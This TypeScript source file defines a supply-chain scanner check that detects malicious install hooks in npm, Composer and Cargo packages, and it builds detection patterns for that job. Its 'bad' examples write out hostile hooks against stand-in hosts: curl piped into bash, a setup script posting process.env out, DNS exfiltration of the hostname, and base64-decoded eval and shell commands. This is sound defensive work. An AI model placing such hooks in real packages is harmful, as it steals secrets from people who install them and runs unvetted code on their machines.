import type { RepositoryCheck } from '../../check.ts';
import type { ActKind } from '../../facts/acts/act.ts';
import { isInstallHook } from '../../facts/install-hooks.ts';
import { dangerOf } from '../../knowledge/shell-danger.ts';
import { RELEASE_HOSTS } from '../../knowledge/shady-hosts.ts';

/** A program written into the hook itself. */
const INLINE_PROGRAM = /\b(?:node|python3?|ruby|perl|@?php)\s{1,3}-(?:e|c|r)\s{1,3}\\?["'][^\n]{60,}/;
/**
 * What an honest one needs: its own files, the answer to whether this is a machine of developers, and a tool that is
 * started by its bare name and could stand in the hook itself.
 */
const HOUSEKEEPING =
  /require\(\\?["'](?:node:)?(?:fs|path)\\?["']\)|\bprocess\.env\.[A-Z_]{2,40}\b|require\(\\?["'](?:node:)?child_process\\?["']\)\.(?:exec|spawn)(?:Sync)?\(\\?["'][\w@ -]{1,60}\\?["']/g;
const INLINE_REACH = /\bhttps?\b|require\(\\?["']|\bexec|\benv\b|\batob\b|base64|\bsocket\b/i;

/** Whom an installation talks to, and what it starts and leaves, is told of the package as a whole. */
const FOR_THE_PACKAGE: ReadonlySet<ActKind> = new Set(['install-contact', 'install-command', 'install-write']);

/** A program may have its reasons to do these; an installation has none. */
const NEVER_AT_INSTALL: ReadonlySet<ActKind> = new Set([
  'environment-sent',
  'system-facts-sent',
  'secret-file-sent',
  'remote-control',
]);

export const check: RepositoryCheck = {
  id: 'supply-chain-install-script-malicious',
  title: 'Install hook attacks whoever installs it',
  severity: 'critical',
  kind: 'malice',
  confidence: 'high',
  since: '0.1.0',
  cwe: [506],
  why: `
    Installing the package runs this hook, and the hook downloads and runs programs, hides what it does, or carries off
    secrets and facts about the machine. It is how most malicious packages strike.`,
  fix: 'Do not install it. On machines that did, renew every secret they could reach.',
  blindSpots:
    'A hook whose script is fetched at install time cannot be judged by its content; fetching it is reported.',
  over: 'repository',
  examples: {
    bad: [
      { 'package.json': '{"scripts": {«"preinstall": "curl -s https://cdn.example.net/i.sh | bash"»}}' },
      {
        'package.json': `{"scripts": {«"postinstall": "node -e \\"require('child_process').execSync('node lib/a.js ' + process.env.NODE_ENV)\\""»}}`,
      },
      {
        'package.json': '{"scripts": {«"postinstall": "node setup.js"»}}',
        'setup.js': "fetch('https://c.example.net', { method: 'POST', body: JSON.stringify(process.env) });\n",
      },
      { 'package.json': '{"scripts": {«"preinstall": "curl http://names.example.net/i"»}}' },
      {
        'composer.json': `{"scripts": {"post-autoload-dump": «"@php -r \\"eval(base64_decode('cHJpbnQoMSk7'));\\""»}}`,
      },
      {
        'Cargo.toml': '«[package]»\nname = "names"\nversion = "1.0.0"\n',
        'build.rs': `
          use std::process::Command;
          fn main() {
              let line = STANDARD.decode("bHMgLWxhIC90bXA=").unwrap();
              Command::new("sh").arg("-c").arg(line).spawn();
          }`,
      },
      { 'package.json': '{"scripts": {«"preinstall": "nslookup `hostname`.names.example.net"»}}' },
      {
        'package.json': '{"scripts": {«"preinstall": "node update.js &"»}}',
        'update.js': `
          const dns = require('dns');
          const name = \`\${require('os').hostname()}.names.example.net\`;
          dns.lookup(name, () => {});`,
      },
    ],
    good: [
      {
        'package.json': `{"scripts": {"prepare": "node -e \\"if (process.env.NODE_ENV !== 'production') require('child_process').execSync('husky', { stdio: 'inherit' })\\""}}`,
      },
      { 'package.json': '{"scripts": {"postinstall": "node-gyp rebuild"}}' },
      { 'composer.json': '{"scripts": {"post-autoload-dump": ["@php artisan package:discover --ansi"]}}' },
      {
        'Cargo.toml': '[package]\nname = "names"\nversion = "1.0.0"\n',
        'build.rs': `
          use std::process::Command;
          fn main() {
              Command::new("git").args(["rev-parse", "HEAD"]).output();
              Command::new("protoc").arg("--version").status();
          }`,
      },
      { 'package.json': '{"scripts": {"postinstall": "curl -o data.json https://data.example.net/1.json"}}' },
      {
        'package.json': `{"scripts": {"prepare": "node -e \\"if (!process.env.RELEASING) { console.error('Releases are made by the workflow.'); process.exit(1); }\\""}}`,
      },
      {
        'package.json': '{"scripts": {"postinstall": "node check.js", "start": "node ask.js"}}',
        'check.js': "require('child_process').execFileSync('node', ['--version']);",
        'ask.js': "fetch('https://api.acme.io/items');",
      },
      {
        'package.json': `{"scripts": {"postinstall": "node -e \\"try { require('fs').chmodSync('./dist/index.js', '755') } catch (e) {}\\""}}`,
      },
      {
        'package.json': '{"scripts": {"postinstall": "node setup.js"}}',
        'setup.js': "console.log('Thank you for installing.');\n",
      },
    ],
  },

  *find(repository) {
    const acts = [
      ...repository.notesOf('act').filter(({ act }) => !FOR_THE_PACKAGE.has(act)),
      ...repository.attacks.filter(({ checkId }) => checkId === 'rce-silent-spawn'),
    ].filter(({ confidence }) => confidence !== 'low');
    for (const hook of repository.notes.filter(isInstallHook)) {
      const danger = dangerOf(hook.command);
      const isInline = INLINE_PROGRAM.test(hook.command) && INLINE_REACH.test(hook.command.replace(HOUSEKEEPING, ''));
      if (danger !== undefined || isInline) {
        yield {
          at: hook.at,
          message: `Installing runs a command that ${danger?.does ?? 'holds a whole program'}.`,
          confidence: danger?.isSure === true ? 'high' : 'medium',
        };
        continue;
      }
      const host = hook.target === undefined ? contactedHost(hook.command) : undefined;
      if (host !== undefined) {
        yield { at: hook.at, message: `Installing talks to ${host}.`, severity: 'high', confidence: 'medium' };
        continue;
      }
      const act = hook.target === undefined ? undefined : acts.find(({ at }) => at.file === hook.target);
      if (act === undefined) continue;
      yield {
        at: hook.at,
        message: `Installing runs ${hook.target ?? 'a script'}. ${act.message}`,
        trace: [{ at: act.at, note: act.message }],
        confidence: 'act' in act && NEVER_AT_INSTALL.has(act.act) ? 'high' : act.confidence,
      };
    }
  },
};

/** Whom a command asks that only asks: a server that hands out no releases learns of every installation. */
function contactedHost(command: string): string | undefined {
  const address = ASKS.exec(command)?.groups?.['address'];
  if (address === undefined || RELEASE_HOSTS.test(address) || SAVES.test(command)) return undefined;
  return address.replace(/^https?:\/\//, '').split('/', 1)[0];
}
const ASKS = /^\s{0,4}curl\b[^\n|]{0,200}?\b(?<address>https?:\/\/[^\s"'|;&]{3,200})/;
/** What is kept in a file was asked for to be used. */
const SAVES = /\s-[a-zA-Z]{0,8}[oO]\b|\s--(?:output|remote-name)\b|>/;
